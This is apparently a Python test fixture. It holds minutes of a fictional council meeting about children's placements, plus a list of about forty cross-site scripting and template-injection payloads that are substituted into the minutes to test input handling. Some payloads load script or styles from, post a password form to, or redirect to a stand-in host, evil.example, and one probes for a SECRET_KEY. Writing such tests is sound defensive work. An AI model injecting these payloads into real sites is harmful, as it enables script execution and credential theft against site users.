"""Minutes of a council that does not exist, with one passage of every kind. Written for these tests."""

PLACEMENTS = """Agenda item

53/24 Children's homes in the county

Minutes:

Purpose of the report: To show how many children live in homes outside the county, and what is being done about it.

Witnesses:
Councillor Ruth Ames, Cabinet Member for Children
Priya Nair, Director of Children's Services
Tom Hale, Head of Fostering

Key points raised in the discussion:
1. A Member asked how many children lived more than twenty miles from home. The Director of Children's Services said that there were 41, nine fewer than a year ago.
2. The Chairman asked about the two homes that stood empty.
a) The Cabinet Member explained that staff had been hard to find in the north of the county.
b) The Head of Fostering added that four new carers had been approved since Easter.
3. A Member asked what inspectors had said. The Director replied that Ofsted had judged the service to be inadequate in 2019. The Director agreed to send members the letter of the last monitoring visit.

Recommendations:
1. That the Cabinet open the home at Lower Wick by 30 September 2026.
2. That the Director of Childrens Services report to the committee's next meeting on the cost of placements outside the county.

Actions:
1. Priya Nair to circulate a table of vacancies by the end of May 2026.
2. Head of Fostering to invite two foster carers to the July meeting.
"""

DECISION = """Minutes:

Dr Olu Bello, Independent Chair of the Safeguarding Partnership, was in attendance for this item.

1. The Chair presented the annual report and answered questions.

2. RESOLVED that the annual report be noted, and a report on missing children be brought to the next meeting.
"""

# What the author of a pasted document might try. Each stands in every place of HOSTILE that becomes a field of its own.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style=position:fixed>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ settings.SECRET_KEY }} {% debug %} ${7*7} {0.__class__}",
]

HOSTILE = """Minutes:

Witnesses:
Tom Hale, Head of {payload} Fostering

1. A Member asked about {payload} twice.

Recommendations:
1. That the Cabinet open {payload} by 30 September 2026.

Actions:
1. Tom {payload} Hale to write to {payload} by May 2026.
"""
